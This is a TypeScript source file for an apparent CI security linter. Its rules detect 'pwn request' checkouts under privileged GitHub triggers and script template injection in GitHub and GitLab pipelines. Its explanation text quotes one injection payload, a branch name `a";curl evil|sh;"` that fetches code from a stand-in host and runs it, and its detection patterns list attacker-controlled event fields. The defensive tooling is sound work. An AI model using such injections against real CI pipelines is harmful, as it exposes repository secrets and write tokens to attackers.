// Privileged triggers that run untrusted code: pull_request_target, workflow_run and issue_comment run
// with the base repository's secrets and a write token, so checking out and building the pull request's
// head there hands both to whoever opened it. And template injection: `${{ }}` expressions are pasted into
// the script before the shell sees it, so an attacker-written title or branch name becomes code.
import { jobs, linesOf, triggers, usesAction } from "../model.js";
import { get, pos, posIn, str } from "../nav.js";
import { variableUses } from "../shell.js";
import type { CiFile, CiRule, RawFinding } from "../types.js";

const PRIVILEGED = ["pull_request_target", "workflow_run", "issue_comment"];
// Expressions and refs that name the pull request's head (its code, not the base's).
const HEAD_REF =
  /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch)|github\.event\.workflow_run\.head_repository|github\.event\.pull_request\.merge_commit_sha|github\.event\.pull_request\.head\.repo|refs\/pull\/|github\.event\.number|github\.event\.issue\.number/;
const GH_CHECKOUT = /\bgh\s+pr\s+checkout\b/;
const GIT_FETCH = /\bgit\s+(?:fetch|checkout|switch|pull)\b/;
const HEAD_IN_COMMAND =
  /pull\/|\$\{\{\s*github\.(?:head_ref|event\.pull_request\.head|event\.workflow_run\.head)/;

/** A command that brings the head into the workspace; two separate tests, so no backtracking between them. */
function headCommand(line: string): string | undefined {
  const gh = GH_CHECKOUT.exec(line);
  if (gh !== null) return gh[0];
  const git = GIT_FETCH.exec(line);
  if (git !== null && HEAD_IN_COMMAND.test(line.slice(git.index))) return git[0];
  return undefined;
}

function dangerousTriggers(file: CiFile): RawFinding[] {
  const on = triggers(file);
  const privileged = PRIVILEGED.filter((t) => on.has(t));
  if (privileged.length === 0) return [];
  const out: RawFinding[] = [];
  const trig = privileged.join("/");
  for (const job of jobs(file)) {
    for (const step of job.steps) {
      if (usesAction(step, "actions/checkout")) {
        for (const key of ["ref", "repository"]) {
          const v = str(get(step.with, key));
          if (v !== undefined && HEAD_REF.test(v)) {
            out.push({
              at: pos(file, get(step.with, key)),
              message: `job ${job.id}: on ${trig}, actions/checkout ${key}: ${v} checks out the pull request's head with the base repository's secrets and token`,
            });
          }
        }
      }
      if (step.run !== undefined) {
        for (const line of linesOf(step.run)) {
          const m = headCommand(line);
          if (m !== undefined)
            out.push({
              at: posIn(file, step.run.node, line),
              message: `job ${job.id}: on ${trig}, \`${m}\` fetches the pull request's head into a privileged run`,
            });
        }
      }
    }
  }
  return out;
}

// Fields of the event that anyone who can open an issue, a pull request or push a branch controls.
const UNTRUSTED =
  /github\.head_ref|github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|pages(?:\[\d+\]|\.\*)\.page_name|commits(?:\[\d+\]|\.\*)\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))|discussion\.(?:title|body)|merge_group\.head_commit\.message)|toJSON\(\s*github\.event\s*\)/;
const EXPRESSION = /\$\{\{([^}]*)\}\}/g;

const GITLAB_UNTRUSTED = new Set([
  "CI_COMMIT_MESSAGE",
  "CI_COMMIT_TITLE",
  "CI_COMMIT_DESCRIPTION",
  "CI_COMMIT_TAG_MESSAGE",
  "CI_COMMIT_BRANCH",
  "CI_COMMIT_REF_NAME",
  "CI_COMMIT_AUTHOR",
  "CI_MERGE_REQUEST_TITLE",
  "CI_MERGE_REQUEST_DESCRIPTION",
  "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
  "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
]);
const REEVALUATES = /\beval\b|\b(?:ba|z)?sh\s+-c\b/;

function templateInjection(file: CiFile): RawFinding[] {
  const out: RawFinding[] = [];
  for (const job of jobs(file)) {
    if (file.kind === "gitlab-ci") {
      for (const script of job.scripts) {
        for (const line of linesOf(script)) {
          const reeval = REEVALUATES.test(line);
          for (const use of variableUses(line, GITLAB_UNTRUSTED)) {
            if (use.quote === "single") continue;
            if (reeval || use.quote === "none") {
              out.push({
                at: posIn(file, script.node, line),
                severity: reeval ? "high" : "medium",
                message: `job ${job.id}: $${use.name} (written by whoever pushes or opens the merge request) is used ${reeval ? "in a command that evaluates it again (eval, sh -c)" : "unquoted in the script"}`,
              });
              break;
            }
          }
        }
      }
      continue;
    }
    const targets = [
      ...job.scripts.map((s) => ({ node: s.node, text: s.text, where: "run:" })),
      ...job.steps
        .filter((s) => usesAction(s, "actions/github-script"))
        .flatMap((s) => {
          const script = get(s.with, "script");
          const text = str(script);
          return text === undefined ? [] : [{ node: script, text, where: "github-script script:" }];
        }),
    ];
    for (const t of targets) {
      for (const m of t.text.matchAll(EXPRESSION)) {
        const expr = m[1] ?? "";
        const bad = UNTRUSTED.exec(expr);
        if (bad !== null) {
          out.push({
            at: posIn(file, t.node, m[0]),
            message: `job ${job.id}: ${bad[0]} is expanded into ${t.where} before the shell runs; its author can inject commands`,
          });
        }
      }
    }
  }
  return out;
}

export const triggerRules: CiRule[] = [
  {
    id: "ci/dangerous-trigger",
    severity: "critical",
    title: "Privileged trigger runs the pull request's code",
    explanation:
      "pull_request_target, workflow_run and issue_comment run in the context of the base repository, with its " +
      "secrets and a token that can write. Checking out the pull request's head there (actions/checkout with " +
      "ref: the head SHA or branch, gh pr checkout, git fetch of refs/pull/...) and then building or running it " +
      'gives the author of any pull request, from any fork, those secrets and that token (a "pwn request").',
    fix:
      "Use the pull_request trigger for anything that builds or runs the contribution (no secrets, read-only " +
      "token). If a privileged step is needed, split it: an unprivileged pull_request workflow produces an " +
      "artifact, and the privileged one consumes it as data without executing it.",
    peers: [
      "zizmor: dangerous-triggers",
      "Scorecard: Dangerous-Workflow (untrusted checkout)",
      "poutine: untrusted_checkout_exec",
    ],
    kinds: ["github-workflow"],
    check: dangerousTriggers,
  },
  {
    id: "ci/template-injection",
    severity: "high",
    title: "Attacker-controlled text expanded into a script",
    explanation:
      "GitHub substitutes `${{ ... }}` into the script text before the shell parses it, so an issue title, a " +
      'pull request body, a comment or a branch name such as `a";curl evil|sh;"` becomes part of the command. ' +
      "In GitLab the commit message, merge request title and branch names are variables that are only " +
      "dangerous when re-evaluated (eval, sh -c) or used unquoted.",
    fix:
      "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`, then " +
      '`"$TITLE"` in the script), and quote GitLab variables; never eval them.',
    peers: [
      "zizmor: template-injection",
      "Scorecard: Dangerous-Workflow (script injection)",
      "poutine: injection",
    ],
    kinds: ["github-workflow", "github-action", "gitlab-ci"],
    check: templateInjection,
  },
];
